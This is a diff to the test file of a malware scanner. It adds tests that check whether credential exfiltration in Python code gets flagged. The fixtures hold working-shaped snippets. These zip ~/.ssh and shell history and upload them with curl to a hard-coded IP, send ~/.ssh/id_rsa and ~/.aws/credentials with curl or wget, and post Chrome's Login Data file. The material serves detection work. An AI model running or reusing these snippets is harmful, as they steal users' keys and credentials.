@@ -8,7 +8,7 @@ import * as assert from 'uvu/assert';
 import { deflateSync } from 'node:zlib';
 import { scanText } from '../../shared/packages/analysis/index.js';
 import { BEHAVIOUR_RULES } from '../../shared/packages/analysis/rules.js';
-import type { Lang } from '../../shared/packages/analysis/scan.js';
+import { type Lang, S } from '../../shared/packages/analysis/scan.js';
 
 const ORDER = ['INFO', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'];
 const serious = (text: string, lang: Lang, path = lang === 'py' ? 'p/__init__.py' : 'index.js') =>
@@ -101,6 +101,25 @@ test("a browser's program path is not a browser profile; a Login Data store next
   assert.equal(serious(prog, 'js'), []);
   const steal = "import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google/Chrome/User Data/Default/Login Data')\nrequests.post('https://example.net/u', files={'f': open(p, 'rb')})\n";
   assert.ok(ids(steal, 'py').includes('exfil_credential_file'));
+});
+
+test('a curl / wget command on a URL started as a process is network use: credential files uploaded to an IP; help text is not', () => {
+  // The real shape (a fork of a vendor SDK): history, git config and ~/.ssh zipped, then `curl -F file=@zip` to an IP through os.system.
+  const real = "import os, shutil, zipfile, pwd\ndef collect():\n    user = pwd.getpwuid(os.getuid())[0]\n    ssh = '/Users/' + user + '/.ssh'\n    shutil.copytree(ssh, '/tmp/l/ssh')\n    shutil.copyfile('/Users/' + user + '/.bash_history', '/tmp/l/h')\n    zipname = '/tmp/l.zip'\n    command = \"curl -k -F \\\"file=@\" + zipname + \"\\\" \\\"https://45.13.22.8/api/v1/file/upload\\\" -v\"\n    os.system(command)\n";
+  assert.ok(ids(real, 'py').includes('exfil_suspicious_destination'), ids(real, 'py').join(','));
+  // Variants: an argument list with curl -T, and wget --post-file through subprocess.
+  const upload = "import subprocess, os\nkey = os.path.expanduser('~/.ssh/id_rsa')\nsubprocess.run(['curl', '-s', '-T', key, 'https://45.13.22.8/u/'])\n";
+  assert.ok(ids(upload, 'py').some((r) => r.startsWith('exfil_')), ids(upload, 'py').join(','));
+  const wget = "import subprocess\nsubprocess.call('wget -q --post-file=' + os.path.expanduser('~/.aws/credentials') + ' https://45.13.22.8/c', shell=True)\n";
+  assert.ok(ids(wget, 'py').some((r) => r.startsWith('exfil_')), ids(wget, 'py').join(','));
+  // Honest twins: an install hint in a help text far from the one process start, and a report
+  // uploaded with curl to a URL the caller passes (no credential read, no hard-coded destination).
+  const help = `import subprocess\nUSAGE = """tool: fetch the CLI first with curl -fsSLO https://tool.example.dev/tool-linux.tgz"""\n${'# padding\n'.repeat(40)}def version():\n    return subprocess.run(['git', 'describe'], capture_output=True).stdout\nSSH_DIR = '~/.ssh'\n`;
+  assert.equal(ids(help, 'py'), []);
+  assert.is(scanText(help, { path: 'p/cli.py', lang: 'py' }).signals & S.NETWORK, 0, 'a command in a help text is not network use');
+  assert.ok(scanText(real, { path: 'p/api.py', lang: 'py' }).signals & S.NETWORK);
+  const report = "import subprocess\ndef upload(report, url):\n    subprocess.run(['curl', '-fsS', '-F', f'file=@{report}', url + '/api/upload', '--fail'], check=True)\n    return 'https://reports.example.dev/latest'\n";
+  assert.equal(ids(report, 'py'), []);
 });
 
 test('a PEM header constant is not a private key', () => {
